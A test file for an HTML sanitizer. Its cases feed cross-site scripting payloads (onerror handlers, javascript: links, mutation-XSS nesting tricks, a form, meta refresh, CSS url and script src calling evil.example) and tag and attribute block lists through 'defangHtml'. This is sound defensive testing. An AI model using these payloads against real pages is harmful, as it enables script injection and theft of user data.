/** Hostile HTML: nothing that runs, fetches, submits or redirects is left, whatever it is wrapped in, and size is no weapon. */
import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { Parser } from 'htmlparser2';
import { defangHtml } from './defang-html.ts';

/** What is in a text as a browser would read it. */
function elementsOf(html: string): { name: string; attributes: Record<string, string> }[] {
  const found: { name: string; attributes: Record<string, string> }[] = [];
  const parser = new Parser({ onopentag: (name, attributes) => void found.push({ name, attributes }) });
  parser.write(html);
  parser.end();
  return found;
}
const harmless = (html: string): void => {
  for (const { name, attributes } of elementsOf(html)) {
    expect(name).not.toMatch(
      /^(script|style|iframe|object|embed|form|input|button|select|textarea|meta|link|base|svg|math|img|image|video|audio|frame|template)$/,
    );
    for (const [attribute, value] of Object.entries(attributes)) {
      expect(attribute).not.toMatch(
        /^on|^(href|src|srcset|action|formaction|background|id|name|class|ping|poster|data|xlink:href)$/,
      );
      if (attribute === 'style') expect(value).not.toMatch(/url|image|@|expression|position|\\|var\(|attr\(|-\d/i);
    }
  }
};

describe('defanged HTML', () => {
  it.each([
    ['<script>alert(1)</script>kept', 'kept', 'script'],
    ['<img src=x onerror=alert(1) alt="A bus">', '[picture: A bus]', 'picture'],
    ['<img src="https://track.example/1.gif">', '[picture]', 'picture from the Internet'],
    ['<form action="https://evil.example"><input name=p value=1>text<button>Go</button></form>', 'text', 'form'],
    ['<meta http-equiv="refresh" content="0;url=https://evil.example">kept', 'kept', 'instruction to the browser'],
    ['<style>a{background:url(https://evil.example/?x)}</style>kept', 'kept', 'style sheet'],
    ['<a href="javascript:alert(1)">look</a>', 'look', 'link made inactive'],
    ['<svg><script>alert(1)</script><a xlink:href="x">y</a></svg>kept', 'kept', 'drawing'],
    ['<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>kept', 'kept', 'formula'],
    ['<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>kept', 'kept', 'alternative for scripts'],
    ['<base href="https://evil.example/">kept', 'kept', 'base address'],
    ['<iframe srcdoc="<script>1</script>"></iframe>kept', 'kept', 'embedded page'],
    ['<div onmouseover="alert(1)">kept</div>', 'kept', 'script in an element'],
    ['<td background="https://evil.example/x.png">kept</td>', 'kept', 'picture from the Internet'],
    ['<SCRIPT/SRC=//evil.example></SCRIPT>kept', 'kept', 'script'],
    ['<!--[if mso]><script>1</script><![endif]-->kept', 'kept', undefined],
    ['<div style="background:url(//evil.example)">kept</div>', 'kept', undefined],
    ['<div style="position:fixed;top:0;margin-left:-9999px;color:red">kept</div>', 'color: red', undefined],
    ['<scr<script>ipt>alert(1)</script>kept', 'kept', undefined],
  ])('%s', (given, kept, removed) => {
    const { html, removed: list } = defangHtml(given);
    harmless(html);
    expect(html).toContain(kept);
    if (removed !== undefined) expect(list.join()).toContain(removed);
  });

  it('is harmless and well nested for any mixture of pieces', () => {
    const piece = fc.oneof(
      fc.constantFrom(
        '<script>',
        '</script>',
        '<style>',
        '</style>',
        '<a href="j">',
        '</a>',
        '<table><tr><td',
        '<p style="',
        '">',
        '<!--',
        '-->',
        '<![CDATA[',
        ']]>',
        '<svg>',
        '</svg>',
        '<textarea>',
        '</textarea>',
        '&lt;script&gt;',
        '<img src=x onerror=1>',
        '<b',
        '>',
        "'",
        '<title>',
        '\0',
      ),
      fc.string({ unit: 'binary' }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
        const { html } = defangHtml(pieces.join(''));
        harmless(html);
        expect(defangHtml(html).removed).toEqual([]);
        expect(html.split(/<(?!br|hr|wbr|col)[a-z]/).length).toBe(html.split('</').length);
      }),
      { numRuns: 500 },
    );
  });

  it('cuts what is endless and flattens what is deep', () => {
    const long = defangHtml('<p>word word word</p>'.repeat(600_000));
    expect(long.html.length).toBeLessThan(2_100_000);
    expect(long.removed).toContain('end of a very long message');
    const deep = defangHtml('<div>'.repeat(100_000) + 'deep');
    expect(elementsOf(deep.html).length).toBeLessThanOrEqual(200);
    expect(deep.html).toContain('deep');
  });
});
